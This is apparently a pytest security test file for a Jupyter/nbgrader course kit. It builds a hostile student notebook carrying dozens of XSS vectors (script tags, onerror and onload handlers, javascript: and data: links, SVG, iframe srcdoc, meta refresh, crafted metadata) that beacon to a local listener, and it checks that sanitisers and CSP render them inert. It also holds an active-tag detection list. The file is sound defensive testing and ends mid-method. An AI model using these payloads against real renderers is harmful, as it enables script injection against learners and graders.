"""Nothing a submission wrote runs in a page made from it: feedback pages, formgrader's view, the autograded notebook.

A hostile lab 01 submission carries every vector we know of: markdown cells with ``<script>``, event handlers,
``<svg>``, ``<iframe srcdoc>``, ``javascript:`` and ``data:`` links, forms, ``<style>`` with ``url()``, meta
refresh, ``<base>``, remote images, SVG attachments and a cell that claims to be locked; and outputs of every
kind a kernel can produce: ``text/html``, ``application/javascript``, ``_repr_html_`` / ``_repr_svg_`` /
``_repr_markdown_`` / ``_repr_latex_``, widget views, isolated HTML, fake and oversized-metadata images,
unknown MIME types, streams and errors quoting HTML, plus what only a crafted message can carry (a stream
named like markup, a non-integer execution count, a malformed grade id, widget state in the notebook's
metadata). Each payload, if it ran, would report itself three ways: a request to a listener on 127.0.0.1,
``document.title`` and ``localStorage``.

Without a browser: the sanitiser on each vector, the notebook rebuild, the page's CSP, the labs' own markdown
(unchanged to read), the course configuration, and the check service's headers. In Chromium
(``tests/browser.py``: skipped loudly without one, a failure under CI):

* fast: the hostile notebook (outputs put in as a kernel would have produced them) through the autograde
  step, rendered as formgrader renders it (nbgrader's ``formgrade`` template, no help from the course
  config); the raw hostile notebook through nbgrader's ``GenerateFeedback`` exporter as the course
  configures it; and the raw notebook through formgrader's exporter with the course configuration;
* slow: a real class run with the real ``nbgrader generate_assignment``, ``autograde`` (sandboxed kernel,
  trusted grader) and ``generate_feedback`` commands, the outputs produced by the hostile code itself.

Every page must fire no payload, carry no active element, and still show the honest content: a markdown
table, a PNG, the instructor's text and the trusted grader's feedback line.
"""

from __future__ import annotations

import base64
import copy
import http.server
import json
import os
import re
import struct
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
import zlib
from html.parser import HTMLParser
from pathlib import Path
from unittest import mock

import nbformat
import pytest
from nbconvert.preprocessors import Preprocessor
from nbformat.notebooknode import NotebookNode
from traitlets import Bool

sys.path.insert(0, str(Path(__file__).resolve().parent))
from browser import artifact_dir  # noqa: E402

from bytes2logits.kit import inert  # noqa: E402
from bytes2logits.kit.gradetask import course_config  # noqa: E402
from bytes2logits.kit.labs import LABS, repo_root, tool_env  # noqa: E402
from bytes2logits.kit.sampleclass import answer_cells, course_copy  # noqa: E402

LAB = LABS["lab01_tokenizers"]
ROOT = repo_root()
STUDENT = "mallory"
PAGE_MS = 60_000
SETTLE_S = 1.5  # after load and clicks: time for a timer, an onload or a refresh to fire
TRUSTED_LINE = "byte_tokenizer: 9/9 hidden checks passed -> 3/3 points (scored by the trusted grader)"
HONEST_CELL = "honest-table-cell"  # text of a cell of the learner's honest markdown table


# ------------------------------------------------------------------------------------------------ payloads

class Listener:
    """An HTTP server on 127.0.0.1 that records every path asked of it: a payload that runs calls it."""

    def __init__(self):
        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 - http.server's name
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(b"ok")

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def js(base: str, name: str) -> str:
    """JavaScript that reports vector ``name``: a request, the title and localStorage (single quotes only)."""
    return (f"fetch('{base}/{name}');document.title='pwned:{name}';"
            f"localStorage.setItem('pwned:{name}','1')")


def png(width: int = 6, height: int = 4, rgb=(200, 40, 40)) -> bytes:
    """A real PNG image, built here (no file in the repository)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


PNG_B64 = base64.b64encode(png()).decode()


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def svg(base: str, name: str) -> str:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(base, name)}"><script>{js(base, name)}</script>'
            f'<image href="{base}/{name}-image"/></svg>')


def markdown_vectors(base: str) -> dict[str, str]:
    """name -> markdown cell source."""
    p = lambda name: js(base, name)  # noqa: E731
    return {
        "md-script": f"Plain text, then <script>{p('md-script')}</script>",
        "md-img-onerror": f'<img src="x" onerror="{p("md-img-onerror")}">',
        "md-svg-onload": f'<svg onload="{p("md-svg-onload")}"><circle r="5"/></svg>',
        "md-iframe-srcdoc": f'<iframe srcdoc="<script>{p("md-iframe-srcdoc")}</script>"></iframe>',
        "md-iframe-src": f'<iframe src="{base}/md-iframe-src"></iframe>',
        "md-js-link": f"[click me](javascript:{p('md-js-link')})",
        "md-js-link-html": f'<a href="jav&#x61;script:{p("md-js-link-html")}">click me too</a>',
        "md-data-link": f'<a href="data:text/html,&lt;script&gt;{p("md-data-link")}&lt;/script&gt;">data link</a>',
        "md-form": (f'<form action="{base}/md-form" method="post"><input name="q" value="x">'
                    f'<button type="submit">send</button></form>'
                    f'<button formaction="{base}/md-formaction">also send</button>'),
        "md-style-url": f"<style>body {{ background-image: url({base}/md-style-url) }}</style>",
        "md-style-attr": f'<div style="background-image: url({base}/md-style-attr); color: red">styled</div>',
        "md-meta-refresh": f'<meta http-equiv="refresh" content="0;url={base}/md-meta-refresh">',
        "md-base": f'<base href="{base}/md-base/"><img src="relative.png">',
        "md-remote-img": f"![remote]({base}/md-remote-img)",
        "md-link-css": f'<link rel="stylesheet" href="{base}/md-link-css">',
        "md-object-embed": f'<object data="{base}/md-object"></object><embed src="{base}/md-embed">',
        "md-data-svg-img": f"![svg](data:image/svg+xml;base64,{_b64(svg(base, 'md-data-svg-img'))})",
        "md-math-href": f"Some maths: $\\href{{javascript:{p('md-math-href')}}}{{x}}$",
        "md-details-handler": f'<details open ontoggle="{p("md-details-handler")}"><summary>s</summary>x</details>',
        "md-video": f'<video src="{base}/md-video" poster="{base}/md-video-poster" onerror="{p("md-video")}"></video>',
    }


def output_vectors(base: str) -> dict[str, dict]:
    """name -> an output as a kernel would have produced it."""
    p = lambda name: js(base, name)  # noqa: E731

    def display(data, metadata=None, kind="display_data"):
        out = {"output_type": kind, "data": data, "metadata": metadata or {}}
        if kind == "execute_result":
            out["execution_count"] = 7
        return out

    return {
        "out-html-script": display({"text/html": f"<script>{p('out-html-script')}</script>", "text/plain": "HTML"}),
        "out-html-img": display({"text/html": f'<img src="x" onerror="{p("out-html-img")}">'}),
        "out-javascript": display({"application/javascript": p("out-javascript"), "text/plain": "JS"}),
        "out-repr-svg": display({"image/svg+xml": svg(base, "out-repr-svg"), "text/plain": "<SVG>"}),
        "out-repr-markdown": display({"text/markdown": f'<img src=x onerror="{p("out-repr-markdown")}"> '
                                      f"[md](javascript:{p('out-repr-markdown-link')})"}),
        "out-repr-latex": display({"text/latex": f"$\\href{{javascript:{p('out-repr-latex')}}}{{x}}$ "
                                   f"<img src=x onerror=\"{p('out-repr-latex-html')}\">"}),
        "out-widget": display({"application/vnd.jupyter.widget-view+json":
                               {"model_id": "0123", "version_major": 2, "version_minor": 0},
                               "text/plain": "IntSlider(value=3)"}),
        "out-isolated": display({"text/html": f"<script>{p('out-isolated')}</script>"},
                                {"text/html": {"isolated": True}}),
        "out-fake-png": display({"image/png": f'"><img src=x onerror="{p("out-fake-png")}">'}),
        "out-png-metadata": display({"image/png": PNG_B64},
                                    {"image/png": {"width": f'1 onerror="{p("out-png-metadata")}"',
                                                   "height": 4}, "filenames": {"image/png": f"{base}/x.png"}}),
        "out-unknown-mime": display({"application/x-evil+html": f"<script>{p('out-unknown-mime')}</script>"}),
        "out-execute-result": display({"text/html": f'<svg onload="{p("out-execute-result")}"></svg>',
                                       "text/plain": "<svg>"}, kind="execute_result"),
        "out-stream": {"output_type": "stream", "name": "stdout",
                       "text": f'<img src=x onerror="{p("out-stream")}">\n'},
        "out-stream-name": {"output_type": "stream", "name": f'x"><img src=x onerror="{p("out-stream-name")}">',
                            "text": "a stream with a crafted name\n"},
        "out-error": {"output_type": "error", "ename": "ValueError",
                      "evalue": f'<img src=x onerror="{p("out-error")}">',
                      "traceback": [f'ValueError: <img src=x onerror="{p("out-error-tb")}">']},
        "out-plain-markup": display({"text/plain": f"<script>{p('out-plain-markup')}</script>"}),
    }


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _md(source: str, **extra) -> NotebookNode:
    cell = nbformat.v4.new_markdown_cell(source)
    cell.update(extra)
    return cell


def hostile_notebook(base: str, crafted: bool = True) -> NotebookNode:
    """Lab 01's release with honest answers, every markdown vector, and code cells holding every output vector;
    ``crafted`` adds two cells that stop nbgrader's autograde of the submission before anything is shown (so
    only the fast tests use them): one that claims to be the instructor's locked ``intro``, and one that
    nbformat refuses (bad id, execution count, grade id and tags, as a crafted kernel message could make)."""
    nb = nbformat.read(LAB.release_notebook(ROOT), as_version=4)
    answers = answer_cells(LAB)
    for cell in nb.cells:
        if _meta(cell).get("grade_id") in answers:
            cell.source = answers[_meta(cell)["grade_id"]]
    p = lambda name: js(base, name)  # noqa: E731
    hostile = [_md(src) for src in markdown_vectors(base).values()]
    claim = _md(f"<img src=x onerror=\"{p('md-claims-locked')}\">", metadata={"nbgrader": {
        "grade": False, "solution": False, "locked": True, "grade_id": "intro", "schema_version": 3}})
    hostile.append(_md("![evil](attachment:evil.svg)", attachments={
        "evil.svg": {"image/svg+xml": base64.b64encode(svg(base, "md-attachment-svg").encode()).decode()}}))
    raw = nbformat.v4.new_raw_cell(f"<script>{p('raw-script')}</script><img src=x onerror=\"{p('raw-img')}\">")
    raw.metadata["raw_mimetype"] = "text/html"
    hostile.append(raw)
    hostile.append(_md(f"An honest table:\n\n| token | id |\n|---|---|\n| {HONEST_CELL} | 104 |\n\n"
                       "and **bold** text with `code` and a [link](https://example.org/)."))
    code = nbformat.v4.new_code_cell("# the learner's experiments", execution_count=3)
    code.outputs = [nbformat.from_dict(o) for o in output_vectors(base).values()]
    code.outputs.append(nbformat.from_dict({"output_type": "display_data", "data": {"image/png": PNG_B64,
                                                                                   "text/plain": "<Image>"},
                                            "metadata": {}}))
    hostile.append(code)
    odd = nbformat.v4.new_code_cell("1")
    odd.execution_count = f'"><img src=x onerror="{p("exec-count")}">'
    odd.metadata = {"nbgrader": {"grade_id": f'x"><img src=x onerror="{p("grade-id")}">', "solution": True,
                                 "grade": False, "locked": False, "schema_version": 3},
                    "tags": [f'"><img src=x onerror="{p("tag")}">']}
    odd.id = "bad id <b>"
    if crafted:
        hostile += [claim, odd]
    at = next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == "setup") + 1
    nb.cells[at:at] = hostile
    # What the trusted grader writes into an autograder cell, after a display the learner's code made there.
    test_cell = next(c for c in nb.cells if _meta(c).get("grade_id") == "byte_tokenizer")
    test_cell.outputs = [nbformat.from_dict({"output_type": "display_data", "metadata": {}, "data": {
        "text/html": f"<img src=x onerror=\"{p('in-test-cell')}\">"}}),
        nbformat.from_dict({"output_type": "stream", "name": "stdout", "text": TRUSTED_LINE + "\n"})]
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0, "evil": f"</script><script>{p('widget-state')}</script>"}}
    nb.metadata["title"] = f"</title><script>{p('nb-title')}</script>"
    return nb


# ------------------------------------------------------------------------------------------------ checks of HTML

_ACTIVE_TAGS = {"script", "style", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button",
                "textarea", "select", "base", "meta", "link", "svg", "math", "template", "video", "audio",
                "source", "track", "applet", "portal", "noscript"}


class _Inventory(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in _ACTIVE_TAGS:
            self.problems.append(f"<{tag}>")
        if tag not in inert.TAGS:
            self.problems.append(f"<{tag}> is not on the allow-list")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "formaction", "xlink:href", "action", "http-equiv"):
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and not inert._safe_href(value):
                self.problems.append(f"<{tag} href={value[:40]}>")
            if name == "src" and not inert._DATA_IMAGE.match(value):
                self.problems.append(f"<{tag} src={value[:40]}>")
            if name == "style" and re.search(r"url|expression|\\|@import", value, re.I):
                self.problems.append(f"<{tag} style={value[:40]}>")

    handle_startendtag = handle_starttag


def html_problems(text: str) -> list[str]:
    """What in ``text`` (an HTML fragment) is not inert: active tags, handlers, unsafe URLs or styles."""
    scan = _Inventory()
    scan.feed(text)
    scan.close()
    return scan.problems


# ------------------------------------------------------------------------------------------------ no browser

BASE = "http://127.0.0.1:9"  # never contacted by the tests that do not open a page


@pytest.mark.parametrize("name", sorted(markdown_vectors(BASE)))
def test_each_markdown_vector_becomes_inert_markdown(name):
    source = markdown_vectors(BASE)[name]
    block = inert.inert_markdown(source)
    assert block.startswith('<div class="b2l-inert">') and block.endswith("</div>")
    assert not html_problems(block), (name, html_problems(block), block)
    # What any renderer makes of it is what was sanitised: nbconvert gives the block back as it is.
    assert inert._render_markdown(block).strip() == block
    assert "\n\n" not in block and not re.search(r"\n[ \t]*\n", block)
    assert inert.inert_markdown(block) == block  # a second pass changes nothing


@pytest.mark.parametrize("name", sorted(output_vectors(BASE)))
def test_each_output_vector_keeps_only_safe_types(name):
    out = inert._inert_output(copy.deepcopy(output_vectors(BASE)[name]))
    assert out is not None
    if out.output_type in ("display_data", "execute_result"):
        assert set(out.data) <= {"text/plain", "image/png", "image/jpeg", "text/html", "text/markdown"}, out.data
        assert out.data, "an output never vanishes without a word"
        for mime in ("text/html", "text/markdown"):
            if mime in out.data:
                assert not html_problems(out.data[mime]), (name, out.data[mime])
        for mime, sizes in out.metadata.items():
            assert mime in ("image/png", "image/jpeg") and all(type(v) is int for v in sizes.values()), out.metadata
        if out.output_type == "execute_result":
            assert out.execution_count == 7
    if out.output_type == "stream":
        assert out.name in ("stdout", "stderr")
        assert out.text == output_vectors(BASE)[name]["text"]  # text is kept as written; nbconvert escapes it


def test_what_each_output_becomes():
    got = {name: inert._inert_output(copy.deepcopy(o)) for name, o in output_vectors(BASE).items()}
    assert set(got["out-javascript"].data) == {"text/plain"} and got["out-javascript"].data["text/plain"] == "JS"
    assert set(got["out-repr-svg"].data) == {"text/plain"}
    assert set(got["out-widget"].data) == {"text/plain"}
    assert set(got["out-repr-latex"].data) == {"text/plain"}
    assert "text/latex" in got["out-repr-latex"].data["text/plain"]  # says what was withheld
    assert "application/x-evil+html" in got["out-unknown-mime"].data["text/plain"]
    assert "image/png" not in got["out-fake-png"].data
    assert got["out-png-metadata"].data["image/png"] == PNG_B64
    assert got["out-png-metadata"].metadata == {"image/png": {"height": 4}}  # no filenames, no crafted width
    assert got["out-isolated"].metadata == {} and "&lt;script&gt;" in got["out-isolated"].data["text/html"]
    assert set(got["out-html-img"].data) == {"text/plain"}  # nothing was left of the HTML
    assert got["out-stream-name"].name == "stdout"
    assert got["out-plain-markup"].data["text/plain"].startswith("<script>")  # text/plain is text, as written
    assert got["out-error"].evalue.startswith("<img")


def test_the_sanitiser_keeps_harmless_html_and_styles():
    token_boxes = ("<div style='line-height:1.9'><span style='background:#e0f2fe;padding:1px 3px;margin:1px;"
                   "border-radius:3px;display:inline-block'><code style='color:inherit;background:none'>he</code>"
                   "</span></div>")
    clean = inert.sanitize_html(token_boxes)
    assert "background: #e0f2fe" in clean and "display: inline-block" in clean and ">he</code>" in clean
    table = ('<table border="1" class="dataframe"><thead><tr><th>a</th></tr></thead>'
             '<tbody><tr><td>1</td></tr></tbody></table>')
    assert inert.sanitize_html(table) == table
    assert inert.sanitize_html('<a href="../../course/01.ipynb">ch</a>') == \
        '<a href="../../course/01.ipynb" rel="noopener noreferrer nofollow">ch</a>'
    assert inert.sanitize_html('<img src="data:image/png;base64,' + PNG_B64 + '" alt="p">').startswith(
        '<img src="data:image/png;base64,')
    assert inert.sanitize_html("<span style='background:url(x);color:red'>s</span>") == \
        '<span style="color: red">s</span>'
    assert inert.sanitize_html('<div class="score panel-heading highlight">x</div>') == '<div class="highlight">x</div>'
    assert inert.sanitize_html("<pre>a\n\nb</pre>") == "<pre>a&NewLine;&NewLine;b</pre>"


def test_the_labs_own_markdown_reads_the_same_after_sanitising():
    """Every markdown cell of every lab, sanitised as if a learner had written it, keeps its text, its tables,
    code and links (the instructor's cells are kept as written anyway; this is the fallback's quality)."""
    class Text(HTMLParser):
        def __init__(self):
            super().__init__(convert_charrefs=True)
            self.parts, self.tags = [], []

        def handle_starttag(self, tag, attrs):
            self.tags.append(tag)

        def handle_data(self, data):
            self.parts.append(data)

    def read(text):
        t = Text()
        t.feed(text.replace("&NewLine;", "\n"))
        return re.sub(r"\s+", " ", "".join(t.parts).replace("\u00b6", "")).strip(), sorted(set(t.tags) - {"div"})

    cells = [c for lab in LABS.values() for c in nbformat.read(lab.release_notebook(ROOT), as_version=4).cells
             if c.cell_type == "markdown"]
    assert len(cells) > 50
    for cell in cells:
        before, after = read(inert._render_markdown(cell.source)), read(inert.inert_markdown(cell.source))
        assert after == before, cell.source[:200]
        assert not html_problems(inert.inert_markdown(cell.source))


def test_the_notebook_is_rebuilt_from_safe_parts_and_trust_comes_from_the_instructor():
    nb = hostile_notebook(BASE)
    source = nbformat.read(LAB.source_notebook(ROOT), as_version=4)
    trusted = frozenset(c.source for c in source.cells if c.cell_type in ("markdown", "raw"))
    done = inert.inert_notebook(copy.deepcopy(nb), trusted)
    by_source = {c.source: c for c in done.cells}
    intro = next(c for c in source.cells if _meta(c).get("grade_id") == "intro")
    assert intro.source in by_source, "the instructor's markdown is kept as written"
    claimed = next(c for c in done.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "intro"
                   and c.source != intro.source)
    assert claimed.source.startswith('<div class="b2l-inert">'), "a learner's cell is sanitised whatever it claims"
    for cell in done.cells:
        if cell.cell_type == "markdown" and cell.source not in trusted:
            assert not html_problems(cell.source), cell.source
            assert "attachments" not in cell
        if cell.cell_type == "raw":
            assert not html_problems(cell.source) and "raw_mimetype" not in cell.metadata
        if cell.cell_type == "code":
            assert cell.execution_count is None or type(cell.execution_count) is int
        assert re.fullmatch(r"[a-zA-Z0-9_\-]{1,64}", cell.id)
        assert set(cell.metadata) <= {"nbgrader", "deletable", "editable", "collapsed", "scrolled", "tags",
                                      "jupyter"}
        gid = cell.metadata.get("nbgrader", {}).get("grade_id")
        assert gid is None or re.fullmatch(r"[a-zA-Z0-9_\-]*", gid)
        assert all(re.fullmatch(r"[\w\-.:]+", t) for t in cell.metadata.get("tags", []))
    assert set(done.metadata) <= {"kernelspec", "language_info"}
    test_cell = next(c for c in done.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "byte_tokenizer")
    assert test_cell.outputs[-1].text == TRUSTED_LINE + "\n"
    assert test_cell.metadata["nbgrader"]["points"] == 3 and test_cell.metadata["nbgrader"]["grade"] is True
    again = inert.inert_notebook(copy.deepcopy(done), trusted)
    assert [(c.cell_type, c.source, c.get("outputs")) for c in again.cells] == \
        [(c.cell_type, c.source, c.get("outputs")) for c in done.cells]


def test_the_preprocessor_finds_the_instructors_notebook_by_the_lab_and_runs_once_per_page():
    intro = next(c.source for c in nbformat.read(LAB.source_notebook(ROOT), as_version=4).cells
                 if _meta(c).get("grade_id") == "intro")
    for resources, kept in (({"nbgrader": {"assignment": LAB.name}}, True),  # nbgrader's converters
                            ({"assignment_id": LAB.name}, True),  # formgrader's page
                            ({"nbgrader": {"assignment": "lab99_nothing"}}, False), ({}, False)):
        nb = hostile_notebook(BASE)
        nb, resources = inert.InertOutputs().preprocess(nb, resources)
        assert (intro in [c.source for c in nb.cells]) is kept, resources
        assert resources["bytes2logits_inert"] is True
        again, _ = inert.InertOutputs().preprocess(copy.deepcopy(hostile_notebook(BASE)), resources)
        assert any("onerror" in c.source for c in again.cells), "done once per page: the second run is a no-op"


def test_a_flood_of_markup_is_cut_off_rather_than_sanitised_at_length(monkeypatch):
    """Past a notebook's budget of markup a markdown cell shows as escaped text, and an output too long for the
    sanitiser is withheld with a note: a learner cannot stall a class's grading with megabytes of HTML."""
    monkeypatch.setattr(inert, "MAX_NOTEBOOK_RICH_CHARS", 5_000)
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("<b>bold</b> " * 300) for _ in range(2)]  # 3,600 characters each
    flood = nbformat.v4.new_code_cell("flood()")
    flood.outputs = [nbformat.v4.new_output("display_data", data={"text/html": "<p>x</p>" * 30_000})]
    nb.cells.append(flood)
    inert.inert_notebook(nb)
    assert "<b>bold</b>" in nb.cells[0].source
    assert nb.cells[1].source.startswith('<div class="b2l-inert"><pre>&lt;b&gt;bold&lt;/b&gt;')
    assert list(nb.cells[2].outputs[0].data) == ["text/plain"] and "text/html" in nb.cells[2].outputs[0].data[
        "text/plain"]
    again = copy.deepcopy(nb)
    inert.inert_notebook(again)
    assert [c.source for c in again.cells] == [c.source for c in nb.cells]


def test_a_page_gets_the_policy_first_in_its_head_and_loses_its_scripts():
    page = ('<!DOCTYPE html>\n<html lang="en">\n<HEAD data-x="1">\n<meta charset="utf-8">\n'
            '<script src="https://cdn.example/mathjax.js"> </script>\n<script type="text/x-mathjax-config">\n'
            'var s = "<b>";\n</script>\n<title>t</title></HEAD><body><p>kept</p><script>late()</script></body></html>')
    out = inert.make_page_inert(page)
    assert "<script" not in out.lower() and "<p>kept</p>" in out and "<title>t</title>" in out
    head = out.split('<HEAD data-x="1">', 1)[1]
    assert head.startswith('<meta http-equiv="Content-Security-Policy" content="')
    assert inert.CSP.replace("'", "&#x27;") in head.split(">", 1)[0]
    bare = inert.make_page_inert("<!doctype html><p>x</p>")
    assert bare.startswith("<!doctype html><head><meta http-equiv=\"Content-Security-Policy\"")
    assert inert.make_page_inert("<html><body>x</body></html>").startswith(
        '<html><head><meta http-equiv="Content-Security-Policy"')


def test_the_course_configuration_wires_it_in():
    from nbgrader.preprocessors import CheckCellMetadata, GetGrades

    with mock.patch.dict(os.environ):
        cfg = course_config(str(ROOT))
    auto = list(cfg.Autograde.autograde_preprocessors)
    assert auto[-1] is inert.InertOutputs and CheckCellMetadata in auto, "last, after grading, before saving"
    feedback = list(cfg.GenerateFeedback.preprocessors)
    assert feedback[0] is inert.InertOutputs and GetGrades in feedback, "first: before the gradebook's comments"
    assert cfg.GenerateFeedback.exporter_class is inert.InertHTMLExporter
    assert list(cfg.HTMLExporter.preprocessors) == [inert.InertOutputs]


def test_the_check_service_replies_are_json_that_no_browser_runs(tmp_path):
    """Every reply of the check service (success, refusal, error, unknown path) carries nosniff and a CSP, and
    text a learner sent comes back with its angle brackets escaped."""
    import asyncio

    from bytes2logits.kit.checkservice import REPLY_HEADERS, CheckService, TokenFile, make_app

    course = course_copy(tmp_path / "course", LAB)
    (tmp_path / "tokens").write_text("alice alice-token-0123456789\n")
    service = CheckService(course, tokens=TokenFile(tmp_path / "tokens"), log_path=tmp_path / "log.jsonl")
    started, box = threading.Event(), {}

    def serve():
        import tornado.httpserver
        import tornado.netutil

        async def main():
            server = tornado.httpserver.HTTPServer(make_app(service))
            sockets = tornado.netutil.bind_sockets(0, "127.0.0.1")
            server.add_sockets(sockets)
            box["port"], box["stop"] = sockets[0].getsockname()[1], asyncio.Event()
            box["loop"] = asyncio.get_running_loop()
            started.set()
            await box["stop"].wait()
            server.stop()

        asyncio.run(main())

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    assert started.wait(30)
    url = f"http://127.0.0.1:{box['port']}"

    def ask(path, data=None, token=None):
        headers = {"Authorization": f"token {token}"} if token else {}
        req = urllib.request.Request(url + path, data=data, headers=headers, method="POST" if data else "GET")
        try:
            with urllib.request.urlopen(req, timeout=30) as r:
                return r.status, dict(r.headers), r.read().decode()
        except urllib.error.HTTPError as e:
            return e.code, dict(e.headers), e.read().decode()

    try:
        replies = [ask("/"), ask("/nowhere<script>"), ask("/check"), ask("/check", b"{}"),
                   ask("/check?lab=%3Cscript%3Ealert(1)%3C/script%3E", json.dumps(
                       {"nbformat": 4, "cells": []}).encode(), token="alice-token-0123456789")]
    finally:
        box["loop"].call_soon_threadsafe(box["stop"].set)
        thread.join(10)
    assert [r[0] for r in replies] == [200, 404, 405, 401, 400]
    for status, headers, body in replies:
        for name, value in REPLY_HEADERS.items():
            assert headers.get(name) == value, (status, name, headers)
        assert "<" not in body and ">" not in body, body
        json.loads(body)
    assert "<script>" in json.loads(replies[-1][2])["error"]  # the same words to a JSON reader


# ------------------------------------------------------------------------------------------------ in Chromium

@pytest.fixture(scope="module")
def listener():
    server = Listener()
    yield server
    server.close()


@pytest.fixture(scope="module")
def shots():
    return artifact_dir("inert_pages")


# What a page holds once loaded: active elements or attributes in the notebook area (formgrader's own controls
# aside), the first element of <head>, scripts, title, localStorage, and the honest content.
PAGE_STATE = """() => {
    const area = document.querySelector('#notebook-container') || document.body || document.documentElement;
    const ordinary = ['http:', 'https:', 'file:', 'mailto:'];
    const bad = [];
    for (const el of area.querySelectorAll('*')) {
        if (el.closest('.panel-heading, .panel-footer')) continue;
        const tag = el.tagName.toLowerCase();
        if (ACTIVE_TAGS.includes(tag)) bad.push('<' + tag + '>');
        for (const at of el.attributes) {
            if (/^on/i.test(at.name) || ['srcdoc', 'formaction', 'action'].includes(at.name)) {
                bad.push(tag + '@' + at.name);
            }
        }
        if (tag === 'a' && el.hasAttribute('href') && !ordinary.includes(el.protocol)) {
            bad.push('a href=' + el.getAttribute('href').slice(0, 30));
        }
        if (el.hasAttribute('src') && !/^data:image\\/(png|jpeg|gif);base64,/i.test(el.getAttribute('src'))) {
            bad.push(tag + ' src=' + el.getAttribute('src').slice(0, 30));
        }
    }
    const head = document.head.firstElementChild;
    const pngs = [...area.querySelectorAll('img[src^="data:image/png"]')]
        .filter(i => i.complete && i.naturalWidth > 0).length;
    const keys = [];
    for (let i = 0; i < localStorage.length; i++) keys.push(localStorage.key(i));
    return {
        bad, keys, pngs, title: document.title, text: area.innerText, href: location.href,
        scripts: document.querySelectorAll('script').length,
        headFirst: head ? [head.tagName, head.getAttribute('http-equiv'), head.getAttribute('content')] : null,
        tableCell: [...area.querySelectorAll('td')].some(td => td.innerText.trim() === HONEST_CELL),
    };
}"""


# Click every link in the notebook that is not an ordinary one (javascript:, data:, or none left), and every
# <summary>: what a curious reader does.
CLICK_ODD_LINKS = """() => {
    const ordinary = ['http:', 'https:', 'file:', 'mailto:'];
    for (const a of document.querySelectorAll('#notebook-container a')) {
        if (!a.hasAttribute('href') || !ordinary.includes(a.protocol)) a.click();
    }
    for (const s of document.querySelectorAll('#notebook-container summary')) s.click();
}"""


def _check_page(browser, path: Path, listener: Listener, shots: Path, *, csp: bool, title: str,
                trusted_line: bool = True) -> list[str]:
    """Open ``path`` in a fresh context, click what a reader might click, and return what went wrong."""
    from playwright.sync_api import Error as PlaywrightError

    problems: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    console, errors, requests = [], [], []
    page.on("console", lambda m: console.append(f"{m.type}: {m.text}"))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.on("request", lambda r: requests.append(r.url))
    state = None
    try:
        page.goto(path.as_uri(), wait_until="load", timeout=PAGE_MS)
        time.sleep(SETTLE_S)
        page.evaluate(CLICK_ODD_LINKS)
        time.sleep(SETTLE_S)
        page.screenshot(path=str(shots / f"{path.parent.name}-{path.stem}.png"), full_page=True)
        (shots / f"{path.parent.name}-{path.stem}.html").write_text(page.content())
        state = page.evaluate(PAGE_STATE.replace("ACTIVE_TAGS", json.dumps(sorted(_ACTIVE_TAGS)))
                              .replace("HONEST_CELL", json.dumps(HONEST_CELL)))
    except PlaywrightError as e:  # a payload that navigates the page away takes the check's page with it
        problems.append(f"the page changed under the check: {str(e).splitlines()[0]}")
    finally:
        context.close()
    time.sleep(0.2)  # a request a payload made in its last moment
    if listener.hits:
        problems.append(f"payloads reached the listener: {sorted(set(listener.hits))}")
        listener.hits.clear()
    to_listener = [u for u in requests if u.startswith(listener.base)]
    if to_listener:
        problems.append(f"requests to the listener: {to_listener}")
    pwned = [e for e in errors + console if "pwned" in e]
    if pwned:
        problems.append(f"a payload ran far enough to fail: {pwned}")
    if state is None:
        return problems
    if state["href"] != path.as_uri():
        problems.append(f"the page navigated to {state['href']}")
    if state["title"] != title:
        problems.append(f"title changed to {state['title']!r}")
    if state["keys"]:
        problems.append(f"localStorage written: {state['keys']}")
    if state["bad"]:
        problems.append(f"active elements or attributes: {state['bad']}")
    if csp:
        if state["headFirst"] != ["META", "Content-Security-Policy", inert.CSP]:
            problems.append(f"the first element of <head> is {state['headFirst']}")
        if state["scripts"]:
            problems.append(f"{state['scripts']} <script> elements left")
        if errors:
            problems.append(f"page errors: {errors}")
        noisy = [c for c in console if c.startswith("error") and "Content Security Policy" not in c]
        if noisy:
            problems.append(f"console errors other than CSP reports: {noisy}")
    # Honest content is still there to read.
    if not state["tableCell"]:
        problems.append("the learner's markdown table is gone")
    if state["pngs"] < 1:
        problems.append("no PNG output shows")
    if "Task 1" not in state["text"] or "ByteTokenizer" not in state["text"]:
        problems.append("the instructor's task statement is gone")
    if trusted_line and "hidden checks passed" not in state["text"]:
        problems.append("the trusted grader's feedback line is gone")
    return problems


class _GradesGiven(Preprocessor):
    """Stands in for nbgrader's GetGrades without a gradebook: full points and no comment on graded cells."""

    enabled = Bool(True)

    def preprocess_cell(self, cell, resources, index):
